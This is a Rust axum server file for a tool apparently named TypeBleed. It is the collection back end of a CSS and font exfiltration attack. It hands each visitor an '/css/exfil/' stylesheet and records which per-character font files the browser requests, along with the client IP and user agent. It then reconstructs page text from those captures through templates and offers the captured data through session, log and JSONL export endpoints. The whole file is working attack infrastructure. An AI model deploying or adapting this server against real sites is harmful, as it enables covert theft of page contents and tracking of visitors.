use axum::extract::{ConnectInfo, Path, Query, State};
use axum::http::{header, HeaderMap, StatusCode, Uri};
use axum::response::{Html, IntoResponse, Response};
use axum::routing::get;
use axum::{Json, Router};
use bytes::Bytes;
use serde::{Deserialize, Serialize};
use std::collections::HashSet;
use std::net::SocketAddr;
use std::path::{Component, Path as FsPath, PathBuf};
use std::sync::Arc;
use typebleed_codec::{
    FontFaceSheet, ReconstructionEngine, ReconstructionResult, TemplateCatalog,
};
use typebleed_core::{
    timing_buckets, unix_millis, CapturePipeline, ClientMeta, JournalPage, Millis, Outcome,
    Session, SessionId, TimingBucket, TypeBleedError,
};

const DEFAULT_LOG_LIMIT: usize = 100;
const MAX_LOG_LIMIT: usize = 1000;

/// Shared, read-mostly state behind every route.
#[derive(Clone)]
pub struct AppState {
    pub pipeline: Arc<CapturePipeline>,
    pub catalog: Arc<TemplateCatalog>,
    pub engine: Arc<ReconstructionEngine>,
    pub sheet: Arc<FontFaceSheet>,
    pub fonts_dir: Option<PathBuf>,
    pub page: Option<PathBuf>,
    pub static_dir: Option<PathBuf>,
    pub bucket_width_ms: Millis,
    pub font_extension: String,
}

static_assertions::assert_impl_all!(AppState: Send, Sync, Clone);

/// JSON error body with a status derived from the pipeline error.
#[derive(Debug)]
pub struct ApiError {
    status: StatusCode,
    message: String,
}

impl ApiError {
    pub fn not_found(message: impl Into<String>) -> Self {
        Self {
            status: StatusCode::NOT_FOUND,
            message: message.into(),
        }
    }

    pub fn internal(message: impl Into<String>) -> Self {
        Self {
            status: StatusCode::INTERNAL_SERVER_ERROR,
            message: message.into(),
        }
    }

    pub fn status(&self) -> StatusCode {
        self.status
    }
}

impl From<TypeBleedError> for ApiError {
    fn from(err: TypeBleedError) -> Self {
        let status = match &err {
            TypeBleedError::UnknownSession { .. } | TypeBleedError::UnknownCodepoint { .. } => {
                StatusCode::NOT_FOUND
            }
            _ => StatusCode::INTERNAL_SERVER_ERROR,
        };
        Self {
            status,
            message: err.to_string(),
        }
    }
}

#[derive(Serialize)]
struct ErrorBody<'a> {
    error: &'a str,
}

impl IntoResponse for ApiError {
    fn into_response(self) -> Response {
        (self.status, Json(ErrorBody { error: &self.message })).into_response()
    }
}

/// Builds the full route table for `state`.
pub fn router(state: AppState) -> Router {
    let capture_route = format!("/{}/{{sid}}/{{file}}", state.pipeline.correlator.prefix());
    Router::new()
        .route("/", get(index))
        .route("/css/exfil/{sid}", get(stylesheet))
        .route(&capture_route, get(capture))
        .route("/fonts/char/{file}", get(untracked_font))
        .route("/static/{*path}", get(static_asset))
        .route("/api/sessions", get(list_sessions).post(create_session))
        .route("/api/sessions/{sid}", get(session_detail).delete(reset_session))
        .route("/api/sessions/{sid}/reconstruction", get(reconstruction))
        .route("/api/log", get(capture_log))
        .route("/api/log.jsonl", get(export_log))
        .with_state(state)
}

fn parse_session(raw: &str) -> Result<SessionId, ApiError> {
    SessionId::parse(raw).ok_or_else(|| TypeBleedError::unknown_session(raw).into())
}

fn stylesheet_url(session: &SessionId) -> String {
    format!("/css/exfil/{}", session)
}

fn render_page(source: &str, session: &SessionId, family: &str) -> String {
    source
        .replace("{{ session_id }}", session.as_str())
        .replace("{{ session_id_short }}", session.short())
        .replace("{{ font_family }}", family)
}

fn fallback_page(session: &SessionId, family: &str) -> String {
    format!(
        "<!DOCTYPE html>\n<html>\n<head>\n<meta charset=\"utf-8\">\n<title>TypeBleed</title>\n\
         <link rel=\"stylesheet\" href=\"{}\">\n\
         <style>body {{ font-family: '{}', sans-serif; }}</style>\n</head>\n\
         <body>\n<p>Session {}</p>\n</body>\n</html>\n",
        stylesheet_url(session),
        family,
        session.short()
    )
}

async fn index(State(state): State<AppState>) -> Html<String> {
    let session = state.pipeline.store.create();
    let family = state.sheet.family();
    let page = match &state.page {
        Some(path) => match tokio::fs::read_to_string(path).await {
            Ok(source) => render_page(&source, &session, family),
            Err(e) => {
                tracing::warn!("Dispatcher: page {} unreadable ({}), serving fallback", path.display(), e);
                fallback_page(&session, family)
            }
        },
        None => fallback_page(&session, family),
    };
    Html(page)
}

#[derive(Debug, Serialize, Deserialize)]
pub struct CreatedSession {
    pub session_id: SessionId,
    pub stylesheet: String,
}

async fn create_session(State(state): State<AppState>) -> (StatusCode, Json<CreatedSession>) {
    let session_id = state.pipeline.store.create();
    let stylesheet = stylesheet_url(&session_id);
    (StatusCode::CREATED, Json(CreatedSession { session_id, stylesheet }))
}

async fn stylesheet(State(state): State<AppState>, Path(sid): Path<String>) -> Result<Response, ApiError> {
    let session = parse_session(&sid)?;
    if !state.pipeline.store.contains(&session) {
        return Err(TypeBleedError::unknown_session(sid).into());
    }
    let css = state.sheet.render(&session, state.pipeline.registry.alphabet());
    Ok((
        [
            (header::CONTENT_TYPE, "text/css; charset=utf-8".to_string()),
            (header::CACHE_CONTROL, "no-store".to_string()),
            (header::HeaderName::from_static("x-typebleed-session"), session.to_string()),
        ],
        css,
    )
        .into_response())
}

fn mime_for(extension: &str) -> &'static str {
    match extension {
        "woff2" => "font/woff2",
        "woff" => "font/woff",
        "ttf" => "font/ttf",
        "otf" => "font/otf",
        "html" | "htm" => "text/html; charset=utf-8",
        "css" => "text/css; charset=utf-8",
        "js" => "text/javascript; charset=utf-8",
        "json" => "application/json",
        "svg" => "image/svg+xml",
        "png" => "image/png",
        "ico" => "image/x-icon",
        "txt" => "text/plain; charset=utf-8",
        _ => "application/octet-stream",
    }
}

/// `raw` joined under `root`, or None if it could leave the directory.
fn confined(root: &FsPath, raw: &str) -> Option<PathBuf> {
    let relative = FsPath::new(raw);
    let plain = !raw.is_empty()
        && relative
            .components()
            .all(|c| matches!(c, Component::Normal(_)));
    plain.then(|| root.join(relative))
}

/// Reads `raw` from `root`, answering 404 for anything missing or unsafe.
async fn serve_file(root: Option<&FsPath>, raw: &str) -> Response {
    let Some(file) = root.and_then(|root| confined(root, raw)) else {
        return StatusCode::NOT_FOUND.into_response();
    };
    match tokio::fs::read(&file).await {
        Ok(body) => {
            let extension = file.extension().and_then(|e| e.to_str()).unwrap_or_default();
            ([(header::CONTENT_TYPE, mime_for(extension))], Bytes::from(body)).into_response()
        }
        Err(_) => StatusCode::NOT_FOUND.into_response(),
    }
}

/// The capture ingress. Rejections answer 404 and never touch a session.
async fn capture(
    State(state): State<AppState>,
    ConnectInfo(peer): ConnectInfo<SocketAddr>,
    headers: HeaderMap,
    uri: Uri,
) -> Response {
    let client = ClientMeta {
        remote_addr: Some(peer.ip().to_string()),
        user_agent: headers
            .get(header::USER_AGENT)
            .and_then(|v| v.to_str().ok())
            .map(str::to_string),
    };

    let codepoint = match state.pipeline.correlator.observe(uri.path(), unix_millis(), &client) {
        Outcome::Accepted { codepoint, .. } => codepoint,
        Outcome::Rejected(_) => return StatusCode::NOT_FOUND.into_response(),
    };

    let Some(dir) = &state.fonts_dir else {
        return StatusCode::NO_CONTENT.into_response();
    };
    let file = dir.join(format!("{}.{}", codepoint.identifier(), state.font_extension));
    match tokio::fs::read(&file).await {
        Ok(body) => (
            [
                (header::CONTENT_TYPE, mime_for(&state.font_extension)),
                (header::CACHE_CONTROL, "no-store"),
            ],
            Bytes::from(body),
        )
            .into_response(),
        // A body-less success keeps the renderer from retrying.
        Err(_) => StatusCode::NO_CONTENT.into_response(),
    }
}

/// Font files without tracking, for pages that use the font statically.
async fn untracked_font(State(state): State<AppState>, Path(file): Path<String>) -> Response {
    serve_file(state.fonts_dir.as_deref(), &file).await
}

async fn static_asset(State(state): State<AppState>, Path(path): Path<String>) -> Response {
    serve_file(state.static_dir.as_deref(), &path).await
}

#[derive(Debug, Serialize, Deserialize)]
pub struct SessionSummary {
    pub session_id: SessionId,
    pub created_at: Millis,
    pub last_seen_at: Option<Millis>,
    pub remote_addr: Option<String>,
    pub user_agent: Option<String>,
    pub char_count: usize,
    /// Captured characters in codepoint order, display form.
    pub characters: Vec<String>,
}

impl SessionSummary {
    fn of(session: &Session) -> Self {
        Self {
            session_id: session.id.clone(),
            created_at: session.created_at,
            last_seen_at: session.last_seen_at,
            remote_addr: session.client.remote_addr.clone(),
            user_agent: session.client.user_agent.clone(),
            char_count: session.len(),
            characters: session.captured.keys().map(|cp| cp.display()).collect(),
        }
    }
}

#[derive(Debug, Serialize, Deserialize)]
pub struct SessionList {
    pub sessions: Vec<SessionSummary>,
    pub total_sessions: usize,
    pub active_sessions: usize,
    pub total_captures: u64,
    /// Distinct client addresses across the listed sessions.
    pub unique_ips: usize,
}

async fn list_sessions(State(state): State<AppState>) -> Json<SessionList> {
    let store = &state.pipeline.store;
    let sessions: Vec<SessionSummary> = store
        .summaries()
        .iter()
        .map(SessionSummary::of)
        .collect();
    let unique_ips = sessions
        .iter()
        .filter_map(|s| s.remote_addr.as_deref())
        .collect::<HashSet<_>>()
        .len();
    Json(SessionList {
        active_sessions: sessions.len(),
        unique_ips,
        total_sessions: store.len(),
        total_captures: state.pipeline.journal.total(),
        sessions,
    })
}

#[derive(Debug, Serialize)]
pub struct SessionDetail {
    pub session: Session,
    pub characters: Vec<String>,
    pub buckets: Vec<TimingBucket>,
}

async fn session_detail(
    State(state): State<AppState>,
    Path(sid): Path<String>,
) -> Result<Json<SessionDetail>, ApiError> {
    let id = parse_session(&sid)?;
    let session = state.pipeline.store.snapshot(&id)?;
    Ok(Json(SessionDetail {
        characters: session.captured.keys().map(|cp| cp.display()).collect(),
        buckets: timing_buckets(&session, state.bucket_width_ms),
        session,
    }))
}

async fn reset_session(State(state): State<AppState>, Path(sid): Path<String>) -> Result<StatusCode, ApiError> {
    let id = parse_session(&sid)?;
    if state.pipeline.store.reset(&id) {
        Ok(StatusCode::NO_CONTENT)
    } else {
        Err(TypeBleedError::unknown_session(sid).into())
    }
}

#[derive(Debug, Deserialize)]
pub struct ReconstructionQuery {
    pub template: Option<String>,
}

async fn reconstruction(
    State(state): State<AppState>,
    Path(sid): Path<String>,
    Query(query): Query<ReconstructionQuery>,
) -> Result<Json<ReconstructionResult>, ApiError> {
    let id = parse_session(&sid)?;
    let session = state.pipeline.store.snapshot(&id)?;
    let template = state
        .catalog
        .resolve(query.template.as_deref())
        .ok_or_else(|| {
            let name = query.template.as_deref().unwrap_or_default();
            ApiError::not_found(format!("unknown template {:?}", name))
        })?;

    let engine = state.engine.clone();
    let alphabet = state.pipeline.registry.alphabet().clone();
    let result = tokio::task::spawn_blocking(move || engine.reconstruct(&session, &template, &alphabet))
        .await
        .map_err(|e| ApiError::internal(format!("reconstruction task failed: {}", e)))?;
    Ok(Json(result))
}

#[derive(Debug, Deserialize)]
pub struct LogQuery {
    pub since: Option<u64>,
    pub limit: Option<usize>,
}

async fn capture_log(State(state): State<AppState>, Query(query): Query<LogQuery>) -> Json<JournalPage> {
    let limit = query.limit.unwrap_or(DEFAULT_LOG_LIMIT).min(MAX_LOG_LIMIT);
    Json(state.pipeline.journal.since(query.since.unwrap_or(0), limit))
}

/// Every retained journal entry as JSON lines, the input of offline replay.
async fn export_log(State(state): State<AppState>) -> impl IntoResponse {
    (
        [
            (header::CONTENT_TYPE, "application/x-ndjson"),
            (header::CACHE_CONTROL, "no-store"),
        ],
        state.pipeline.journal.to_json_lines(),
    )
}
